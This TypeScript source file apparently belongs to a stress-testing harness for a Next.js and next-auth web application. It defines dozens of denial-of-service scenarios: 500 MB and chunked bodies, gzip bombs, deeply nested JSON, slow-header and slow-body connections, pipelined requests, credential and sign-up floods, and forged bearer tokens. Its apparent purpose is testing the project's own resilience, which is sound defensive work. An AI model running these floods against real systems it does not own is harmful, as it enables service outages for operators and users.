import { randomBytes } from "node:crypto";
import { gzipSync } from "node:zlib";
import { pause } from "../report";
import { attacker, lazily, type Shot } from "./attacker";
import { oneMore } from "./crowd";
import type { Flood } from "./flood";
import { each, range, Tally } from "./tally";
import type { Target } from "./target";

/** So many requests by one address, `width` at a time; `shot` makes the n-th. */
export async function many(
  target: Target,
  count: number,
  width: number,
  shot: (n: number) => Shot & { method?: string; path: string },
): Promise<Tally> {
  const one = attacker(target.url, width);
  const tally = new Tally();
  await each(range(Math.ceil(count)), width, async (n) => {
    const { method = "GET", path, ...rest } = shot(n);
    tally.add((await one.shoot(method, path, rest)).status);
  });
  one.close();
  return tally;
}

/** So many bare connections that send `first` and then, each second, a little more, for so long; what came first on each is told. */
async function slowly(target: Target, count: number, ms: number, first: string, more: string): Promise<Tally> {
  const one = attacker(target.url);
  const tally = new Tally();
  const sockets = range(count).map(() => {
    const socket = one.open(first);
    let said = "";
    socket.on("data", (chunk: Buffer) => {
      if (said.length < 1000) said += chunk.toString("latin1");
    });
    return { socket, status: () => Number(/^HTTP\/1\.1 (\d+)/.exec(said)?.[1] ?? 0) };
  });
  for (const deadline = Date.now() + ms; Date.now() < deadline; ) {
    await pause(1000);
    for (const { socket } of sockets) if (!socket.destroyed && socket.writable) socket.write(more);
  }
  for (const { socket, status } of sockets) {
    tally.add(status());
    socket.destroy();
  }
  return tally;
}

const form = { "content-type": "application/x-www-form-urlencoded" };
const unknownFields = (bytes: number) => {
  let body = '{"0":1';
  for (let n = 1; body.length < bytes; n++) body += `,"${n}":1`;
  return `${body}}`;
};
const longHeaders: Record<string, string>[] = [
  {},
  { cookie: "a=1; ".repeat(2900) },
  { accept: "a/b,".repeat(3000), "x-forwarded-for": "1.1.1.1, ".repeat(200) },
];
const wrong = (email: string) => ({ method: "POST", path: "/api/auth/login", body: { email, password: "a wrong password" } });

export const floodsOfNobody: readonly Flood[] = [
  ...["callback/credentials", "signout", "_log", "signin/credentials"].map(
    (act, n): Flood => ({
      name: `bodies of 500 MB at next-auth's ${act}`,
      ...(n === 0 && { sharp: true }),
      run: (target, size) =>
        many(target, 20 * size, 20, () => ({
          method: "POST",
          path: `/api/auth/${act}`,
          headers: { ...form, "content-length": String(500_000_000) },
          body: lazily(500_000_000, "email=a&password=b&"),
        })),
    }),
  ),
  {
    name: "bodies of 500 MB without a length",
    sharp: true,
    run: (target, size) =>
      many(target, 20 * size, 20, (n) => ({
        method: "POST",
        path: ["/api/auth/callback/credentials", "/api/auth/login", "/login", "/api/nothing", "/courses"][n % 5] ?? "/",
        headers: { ...form, "transfer-encoding": "chunked" },
        body: lazily(500_000_000 * size, "email=a&password=b&"),
      })),
  },
  {
    name: "bodies of 200 MB to pages, as server actions",
    sharp: true,
    run: (target, size) =>
      many(target, 20 * size, 20, (n) => ({
        method: "POST",
        path: ["/login", "/", "/register", "/no-such-page"][n % 4] ?? "/",
        headers: { "next-action": "a".repeat(42), "content-type": n % 2 ? "text/plain;charset=UTF-8" : "multipart/form-data; boundary=x" },
        body: lazily(200_000_000 * size, '--x\r\ncontent-disposition: form-data; name="1_a"\r\n\r\na\r\n'),
      })),
  },
  {
    name: "unknown fields, 500 kB each",
    sharp: true,
    run: (target, size) => {
      const body = unknownFields(500_000);
      return many(target, 100 * size, 20, () => ({ method: "POST", path: "/api/auth/login", body }));
    },
  },
  ...(["[", '{"a":'] as const).map(
    (open): Flood => ({
      name: `JSON that goes deep by ${open}`,
      sharp: true,
      run: (target, size) => {
        const close = open === "[" ? "]" : "}";
        const depth = Math.floor(500_000 / (open.length + 1));
        const body = `${open.repeat(depth)}${open === "[" ? "" : 1}${close.repeat(depth)}`;
        return many(target, 100 * size, 20, () => ({ method: "POST", path: "/api/auth/refresh", body }));
      },
    }),
  ),
  {
    name: "wide JSON of empty lists, 500 kB",
    run: (target, size) => {
      const body = `{"email":[${"[],".repeat(160_000)}0]}`;
      return many(target, 100 * size, 20, () => ({ method: "POST", path: "/api/auth/login", body }));
    },
  },
  {
    name: "an e-mail address of 500 kB",
    sharp: true,
    run: (target, size) => {
      const bodies = ["a.", "a@", "@", " ", "\t", "a-", "\u00e9"].map((piece) => ({ email: piece.repeat(250_000 / piece.length) }));
      return many(target, 140 * size, 20, (n) => ({ method: "POST", path: "/api/auth/password/forgot", body: bodies[n % bodies.length] }));
    },
  },
  {
    name: "300 wrong sign-ins at once",
    sharp: true,
    run: (target, size) => many(target, 300 * Math.max(size, 0.5), 300, (n) => wrong(`nobody-${n}@test.example`)),
  },
  {
    name: "wrong sign-ins through next-auth at once",
    run: async (target, size) => {
      const one = attacker(target.url, 200);
      const { headers, text } = await one.shoot("GET", "/api/auth/csrf", { reads: true });
      const csrfToken = (JSON.parse(text || "{}") as { csrfToken?: string }).csrfToken ?? "";
      const cookie = ((headers["set-cookie"] as string[] | undefined) ?? []).map((line) => line.split(";")[0]).join("; ");
      const body = new URLSearchParams({ csrfToken, email: "nobody@test.example", password: "wrong", json: "true" }).toString();
      const tally = new Tally();
      await each(range(300 * size), 200, async () =>
        tally.add((await one.shoot("POST", "/api/auth/callback/credentials", { headers: { ...form, cookie }, body })).status),
      );
      one.close();
      return tally;
    },
  },
  {
    name: "sign-ups at once",
    sharp: true,
    run: (target, size) =>
      many(target, 400 * size, 100, (n) => ({
        method: "POST",
        path: "/api/auth/register",
        body: { email: `flood-${n}-${Date.now()}@test.example`, password: "long enough it is", first_name: "A", last_name: "B" },
      })),
  },
  {
    name: "100,000 different accounts",
    run: (target, size) => many(target, 20_000 * size, 50, (n) => wrong(`${n}-${"a".repeat(200)}@test.example`)),
  },
  {
    name: "invented refresh tokens",
    sharp: true,
    run: (target, size) =>
      many(target, 3000 * size, 50, () => ({
        method: "POST",
        path: "/api/auth/refresh",
        body: { refresh_token: randomBytes(32).toString("base64url") },
      })),
  },
  {
    name: "links that never were",
    run: (target, size) =>
      many(target, 3000 * size, 50, (n) => ({
        method: "POST",
        path: n % 2 ? "/api/auth/password/link" : "/api/auth/password/reset",
        body: { token: randomBytes(24).toString("base64url"), ...(n % 2 === 0 && { password: "long enough it is" }) },
      })),
  },
  {
    name: "forgotten passwords of 3,000 addresses",
    run: (target, size) =>
      many(target, 3000 * size, 50, (n) => ({ method: "POST", path: "/api/auth/password/forgot", body: { email: `f-${n}@test.example` } })),
  },
  {
    name: "10,000 different addresses of pages",
    sharp: true,
    run: (target, size) =>
      many(target, 10_000 * size, 50, (n) => ({
        path: [`/courses/${n}`, `/no-such-${n}/${n}`, `/videos/${n}?a=${n}`, `/api/none/${n}`, `/_next/static/${n}.js`][n % 5] ?? "/",
      })),
  },
  {
    name: "the page of sign-in",
    sharp: true,
    run: (target, size) => many(target, 3000 * size, 50, (n) => ({ path: `/login?next=${n}` })),
  },
  {
    name: "the page of sign-in, as RSC",
    run: (target, size) =>
      many(target, 3000 * size, 50, (n) => ({ path: `/login?_rsc=${n}`, headers: { rsc: "1", "next-router-prefetch": "1" } })),
  },
  {
    name: "router states of 8 kB",
    run: (target, size) => {
      const tree = encodeURIComponent(`${'["",{"children":'.repeat(90)}{}${"}]".repeat(90)}`);
      return many(target, 2000 * size, 50, () => ({ path: "/login", headers: { rsc: "1", "next-router-state-tree": tree } }));
    },
  },
  {
    name: "headers of 15 kB, cookies of 15 kB, addresses of 15 kB",
    sharp: true,
    run: (target, size) =>
      many(target, 3000 * size, 50, (n) => ({
        path: n % 3 === 0 ? `/login?${"a=1&".repeat(3700)}` : "/login",
        headers: longHeaders[n % 3] ?? {},
      })),
  },
  {
    name: "2,000 headers, and headers of 1 MB",
    run: (target, size) =>
      many(target, 1000 * size, 50, (n) => ({
        path: "/login",
        headers: n % 2 ? Object.fromEntries(range(2000).map((k) => [`x-${k}`, "1"])) : { cookie: "a".repeat(1_000_000) },
      })),
  },
  {
    name: "gzip bombs as bodies",
    run: (target, size) => {
      const bomb = gzipSync(Buffer.alloc(200_000_000, 32));
      return many(target, 100 * size, 20, () => ({
        method: "POST",
        path: "/api/auth/login",
        headers: { "content-encoding": "gzip", "content-type": "application/json" },
        body: bomb,
      }));
    },
  },
  {
    name: "20,000 pipelined requests whose answers nobody reads",
    sharp: true,
    run: async (target, size) => {
      const one = attacker(target.url);
      const sockets = range(20).map(() => {
        const socket = one.open(
          "GET /api/openapi.json HTTP/1.1\r\nhost: a\r\n\r\nGET /login HTTP/1.1\r\nhost: a\r\n\r\n".repeat(500 * size),
        );
        socket.pause();
        return socket;
      });
      await pause(8000 * Math.max(size, 0.5));
      for (const socket of sockets) socket.destroy();
      return new Tally();
    },
  },
  {
    name: "1,000 slow heads",
    run: (target, size) => slowly(target, 1000 * size, 20_000 * size, "GET / HTTP/1.1\r\nhost: a\r\n", "x: 1\r\n"),
  },
  {
    name: "500 slow bodies",
    sharp: true,
    run: (target, size) =>
      slowly(
        target,
        500 * size,
        20_000 * size,
        "POST /api/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 500000\r\n\r\n{",
        " ".repeat(1000),
      ),
  },
  {
    name: "1,000 sockets that never say who they are",
    run: (target, size) =>
      slowly(
        target,
        1000 * size,
        10_000 * size,
        "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: a\r\nupgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
        "",
      ),
  },
  {
    name: "3,000 polling handshakes that nobody goes on with",
    sharp: true,
    run: (target, size) => many(target, 3000 * size, 50, (n) => ({ path: `/socket.io/?EIO=4&transport=polling&t=${n}` })),
  },
  {
    name: "polling posts of 500 MB",
    run: async (target, size) => {
      const one = attacker(target.url, 20);
      const tally = new Tally();
      await each(range(20 * size), 20, async () => {
        const { text } = await one.shoot("GET", "/socket.io/?EIO=4&transport=polling", { reads: true });
        const sid = /"sid":"([^"]+)"/.exec(text)?.[1] ?? "";
        const body = lazily(500_000_000 * size, "4a\x1e");
        tally.add(
          (await one.shoot("POST", `/socket.io/?EIO=4&transport=polling&sid=${sid}`, { headers: { "content-type": "text/plain" }, body }))
            .status,
        );
      });
      one.close();
      return tally;
    },
  },
  {
    name: "readiness, metrics, description and odd methods",
    run: (target, size) =>
      many(target, 4000 * size, 50, (n) => ({
        method: n % 7 === 6 ? "PROPFIND" : "GET",
        path: ["/api/ready", "/metrics", "/api/openapi.json", "/api/docs", "/api/auth/providers", "/api/auth/csrf", "/"][n % 7] ?? "/",
      })),
  },
  {
    name: "tokens that are not, at every call",
    sharp: true,
    run: async (target, size) => {
      const { token } = await oneMore(target);
      const forged = `${token.slice(0, -8)}${"A".repeat(8)}`;
      return many(target, 4000 * size, 50, (n) => ({
        path: "/api/auth/me",
        headers: { authorization: `Bearer ${n % 2 ? forged : `${"a".repeat(5000)}.${"b".repeat(5000)}.c`}` },
      }));
    },
  },
];
